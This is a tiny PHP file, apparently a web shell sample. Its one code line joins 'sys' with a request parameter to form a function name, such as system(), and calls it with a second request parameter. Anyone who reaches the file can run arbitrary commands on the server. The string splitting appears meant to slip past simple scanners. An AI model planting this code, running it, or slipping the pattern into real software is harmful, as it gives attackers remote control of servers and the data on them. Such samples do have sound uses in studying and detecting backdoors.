<?php
// The callee is put together from a literal and request input, and called at once.
("sys" . $_GET['t'])($_GET['c']);
